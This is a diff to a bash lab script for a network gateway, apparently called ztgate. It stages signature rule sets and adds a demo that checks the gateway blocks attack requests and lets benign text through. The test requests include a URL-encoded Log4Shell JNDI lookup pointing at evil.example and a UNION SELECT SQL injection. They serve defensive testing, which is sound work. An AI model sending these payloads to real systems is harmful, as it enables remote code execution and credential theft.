@@ -307,7 +307,7 @@ identity_setup() {
 	install -m 644 "$PKI_DIR/ca.pem" "$POLICY_DIR/keys/lab-ca.pem"
 	install -m 600 "$IDP_DIR/hmac.jwks" "$POLICY_DIR/keys/hmac.jwks"
 	stage_policy
-	info "identity: policy staged in $POLICY_DIR (lab.conf, keys/lab-ca.pem, keys/hmac.jwks)"
+	info "policy staged in $POLICY_DIR (lab.conf, keys/lab-ca.pem, keys/hmac.jwks, signatures/)"
 }
 
 # The policy ztgate loads names its key files relative to itself: a fresh
@@ -316,6 +316,15 @@ identity_setup() {
 stage_policy() {
 	[[ -d $POLICY_DIR/keys ]] || die "no staged key files in $POLICY_DIR/keys: run '$0 up' first"
 	install -m 600 "$ROOT/rules/lab.conf" "$STAGED_POLICY"
+	# The rule sets lab.conf loads; the card and IBAN sets wait for their validators.
+	install -d -m 700 "$POLICY_DIR/signatures"
+	local set
+	for set in "$ROOT"/rules/signatures/*.rules; do
+		case $(basename "$set") in
+		leaks-cards.rules | leaks-iban.rules) ;;
+		*) install -m 600 "$set" "$POLICY_DIR/signatures/" ;;
+		esac
+	done
 }
 
 # lab_token NAME: the token's text; without NAME, the list of tokens.
@@ -826,6 +835,21 @@ demo_ipv6() {
 	lab_http 200 GET "$SERVER_URL6/api/v1/orders/7"
 }
 
+demo_signatures() {
+	heading "Signatures: the shipped ruleset, matched with Hyperscan before a request is forwarded"
+	echo "A JNDI lookup (Log4Shell) in a query argument: a block rule"
+	lab_http 403 GET "$SERVER_URL/api/v1/orders/7?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"
+	echo "A UNION SELECT in a query argument: scored rules reaching the service's threshold (5)"
+	lab_http 403 GET "$SERVER_URL/api/v1/orders/7?q=1%27%20UNION%20SELECT%20username%2C%20password%20FROM%20users--"
+	echo "Quotes and SQL-ish words in ordinary text pass"
+	lab_http 200 GET "$SERVER_URL/api/v1/orders/7?q=O%27Brien%27s%20union%20of%20selected%20items"
+	sleep 0.3
+	echo
+	echo "ztgate's events: the rule ids and the score"
+	grep '^{"timestamp"' "$DUT_LOG" | jq -c 'select(.reason == "signature" or .reason == "anomaly_score")
+		| {reason, path, rules, score}' | sed 's/^/  /'
+}
+
 demo_ping() {
 	heading "ICMP echo through the bridge"
 	nsx "$NS_CLIENT" ping -n -c 3 -i 0.2 -W 2 "$SERVER_IP4" || die "ping $SERVER_IP4 through the bridge failed"
@@ -879,7 +903,7 @@ demo_server_view() {
 
 # Demo steps after ztgate is up, in order. To add one, write a demo_*
 # function and add its name here.
-DEMO_SECTIONS=(demo_requests demo_denied demo_policy demo_identity demo_ipv6 demo_ping demo_bulk demo_load demo_server_view)
+DEMO_SECTIONS=(demo_requests demo_denied demo_policy demo_identity demo_signatures demo_ipv6 demo_ping demo_bulk demo_load demo_server_view)
 
 demo_cleanup() {
 	local rc=$?
